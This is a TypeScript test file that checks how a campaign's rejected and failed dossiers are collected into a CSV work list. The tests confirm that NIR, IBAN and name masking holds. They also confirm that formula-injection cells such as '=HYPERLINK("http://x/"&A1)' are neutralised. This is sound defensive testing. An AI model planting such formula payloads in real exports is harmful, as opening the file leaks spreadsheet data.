import { randomBytes } from 'node:crypto';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { join, dirname } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DeploymentSecret } from '../../core/secret.ts';
import { readInputRows } from '../../input/index.ts';
import { collectCampaignRejects, writeCampaignRejects } from '../../queue/campaigns/campaign-rejects.ts';
import { dipaLines, dipaSample } from '../support/dipa-sample.ts';
import { startTestRedis, type TestRedis } from '../support/redis.ts';
import { endedCampaign } from '../support/ended-campaign.ts';

let redis: TestRedis;
beforeAll(async () => {
  redis = await startTestRedis();
});
afterAll(async () => {
  await redis?.close();
});

const secret = DeploymentSecret.fromBytes(randomBytes(32), 'test');

/** Row 2 of dipa-50.csv: the dossier the back office refuses. */
const ROW_2_NAME = 'MATHIEU Guillaume';
/** A refusal quoting what a back office may quote: a NIR, an IBAN and the person's name. */
const REFUSAL = `Refus : l'assuré 1 85 07 59 012 345 67 (${ROW_2_NAME}), IBAN FR0313507259787217660149276, n'est pas éligible`;
const FAILURE = 'écran changé : le champ du NIR 2850759012345 a disparu';

/** Submits `rows` rows and lets a worker end row 2 rejected and row 3 failed (recorded in the ledger unless a dry run); the others done. */
const campaignWithRejects = (rows: number, options: { dryRun?: boolean; extra?: string[] } = {}) => endedCampaign(redis, {
  secret, rows, ...options,
  end: (row) => row === 2 ? { status: 'rejected', reason: REFUSAL } : row === 3 ? { status: 'failed', reason: FAILURE, evidence: '/var/lib/proweb/evidence/d3.png' } : { status: 'done', reference: 'PRG-1' },
});

/** Everything a work list says, as one text. */
const allText = (list: Awaited<ReturnType<typeof collectCampaignRejects>>) => JSON.stringify(list);

describe('the work list of a campaign', () => {
  it('lists the rejected and failed dossiers of a dry run from its jobs, the ledger having nothing, the reasons masked', async () => {
    const c = await campaignWithRejects(4, { dryRun: true });
    const list = await collectCampaignRejects(c);
    expect(list.rejects.map((r) => [r.rowNumber, r.status])).toEqual([[2, 'rejected'], [3, 'failed']]);
    // The dossier's declared name is masked whole; NIRs and IBANs keep their patterns' readable masks.
    expect(list.rejects[0]!.reason).toBe("Refus : l'assuré 1 85 ** ** *** *** 67 (***), IBAN FR03 **** **76, n'est pas éligible");
    expect(list.rejects[1]!.reason).toBe('écran changé : le champ du NIR 2 85 ** ** *** *** a disparu');
    expect(list.rejects[0]!.raw?.numero_demande).toBe('DIPA-2020-000001');
    expect(list.rejects[1]!.evidence).toEqual(['/var/lib/proweb/evidence/d3.png']);
    expect(list).toMatchObject({ inputFile: c.file, rowsNotMatched: 0 });
    expect(list.inputProblem).toBeUndefined();
    await c.close();
  });

  it('gives each dossier its row from the input file on this machine, never from Redis, the reasons masked', async () => {
    const c = await campaignWithRejects(4);
    // The file is the agent's: what it says now is what the work list shows.
    await writeFile(c.file, (await readFile(c.file, 'utf8')).replace('DIPA-2020-000001', 'DIPA-2020-100001'));
    const list = await collectCampaignRejects({ ...c, secret });
    expect(list.rejects.map((r) => [r.rowNumber, r.status, r.raw?.numero_demande, r.raw?.nom])).toEqual([
      [2, 'rejected', 'DIPA-2020-100001', ROW_2_NAME],
      [3, 'failed', 'DIPA-2020-000002', 'VANDENBERGHE Maxime'],
    ]);
    for (const value of ['1 85 07 59 012 345 67', '2850759012345', 'FR0313507259787217660149276']) expect(allText({ ...list, rejects: list.rejects.map((r) => ({ ...r, raw: undefined })) })).not.toContain(value);
    expect(list.rejects[0]!.reason).not.toContain('Guillaume');
    await c.close();
  });

  it('keeps the row number and reason of a dossier whose job and input file are both gone, and says why its columns are empty', async () => {
    const c = await campaignWithRejects(3);
    for (const job of await c.queue.getJobs(['completed', 'failed'])) await c.queue.remove(job.id!);
    await rm(c.file);
    const list = await collectCampaignRejects(c);
    expect(list.inputProblem).toBe('file not found');
    expect(list.rejects.map((r) => [r.rowNumber, r.status, r.raw])).toEqual([[2, 'rejected', undefined], [3, 'failed', undefined]]);
    const out = join(dirname(c.file), 'travail.csv');
    expect(await writeCampaignRejects(out, list.rejects)).toEqual({ path: out, rows: 2 });
    // Without the row, its name cannot be known here: the worker masked it before the ledger kept it.
    expect(await readFile(out, 'utf8')).toBe(
      "\ufeffligne;statut;motif;preuves\r\n2;rejeté;Refus : l'assuré 1 85 ** ** *** *** 67 (MATHIEU Guillaume), IBAN FR03 **** **76, n'est pas éligible;\r\n" +
        '3;échec;écran changé : le champ du NIR 2 85 ** ** *** *** a disparu;\r\n',
    );
    await c.close();
  });

  it('reads the agent’s copy given in place of the submitted path', async () => {
    const c = await campaignWithRejects(3);
    const copy = join(dirname(c.file), 'ma-copie.csv');
    await writeFile(copy, await readFile(c.file));
    await rm(c.file);
    const list = await collectCampaignRejects({ ...c, inputFile: copy, secret });
    expect(list).toMatchObject({ inputFile: copy, rowsNotMatched: 0 });
    expect(list.rejects.map((r) => r.raw?.nom)).toEqual([ROW_2_NAME, 'VANDENBERGHE Maxime']);
  });

  it('never puts another person’s row beside a reason: a row that is another dossier now stays empty', async () => {
    const c = await campaignWithRejects(3);
    const lines = await dipaLines();
    // Rows 2 and 3 swapped for rows of other dossiers since the submission (a re-export, a sort).
    const text = (await readFile(c.file, 'utf8')).replace(lines[0]!, lines[10]!);
    await writeFile(c.file, text);
    const list = await collectCampaignRejects({ ...c, secret });
    expect(list.rejects.map((r) => [r.rowNumber, r.raw?.nom])).toEqual([[2, undefined], [3, 'VANDENBERGHE Maxime']]);
    expect(list.rowsNotMatched).toBe(1);
    // Its reason is still masked with the patterns.
    expect(list.rejects[0]!.reason).toContain('1 85 ** ** *** *** 67');
  });

  it('keeps an input cell that starts like a formula inert in the work list, and it reads back as the original text', async () => {
    const formula = '=HYPERLINK("http://x/"&A1)';
    const c = await campaignWithRejects(1, { extra: [(await dipaLines())[1]!.replace('VANDENBERGHE Maxime', `"${formula.replace(/"/g, '""')}"`)] });
    const list = await collectCampaignRejects({ ...c, secret });
    expect(list.rejects.map((r) => [r.rowNumber, r.raw?.nom])).toEqual([[2, ROW_2_NAME], [3, formula]]);
    const out = join(dirname(c.file), 'a-traiter.csv');
    await writeCampaignRejects(out, list.rejects);
    const written = await readFile(out, 'utf8');
    expect(written).toContain(`;"'=HYPERLINK(""http://x/""&A1)";`);
    expect(written).not.toMatch(/(^|[;\n])"?=/);
    const resubmitted = [];
    for await (const row of readInputRows(out)) resubmitted.push(row);
    expect(resubmitted.map((r) => r.raw.nom)).toEqual([ROW_2_NAME, formula]);
    await c.close();
  });

  it('keeps cells that start like a formula as text, so that opening the work list in Excel runs nothing', async () => {
    const out = join(dirname(await dipaSample('x.csv', 1)), 'formules.csv');
    await writeCampaignRejects(out, [{ rowNumber: 4, status: 'failed', reason: '@SUM(A1)', dossierId: 'd', raw: { nom: '=HYPERLINK("http://x")', montant: '-12,50' }, evidence: [] }]);
    expect(await readFile(out, 'utf8')).toBe(`\ufeffnom;montant;ligne;statut;motif;preuves\r\n"'=HYPERLINK(""http://x"")";-12,50;4;échec;'@SUM(A1);\r\n`);
  });

  it('quotes a reason holding the separator or quotes, as Excel reads it back', async () => {
    const out = join(dirname(await dipaSample('x.csv', 1)), 'guillemets.csv');
    await writeCampaignRejects(out, [{ rowNumber: 9, status: 'rejected', reason: 'refus; motif "B12"', dossierId: 'd', raw: { nom: 'DURAND; Paul' }, evidence: [] }]);
    expect(await readFile(out, 'utf8')).toBe('\ufeffnom;ligne;statut;motif;preuves\r\n"DURAND; Paul";9;rejeté;"refus; motif ""B12""";\r\n');
  });
});
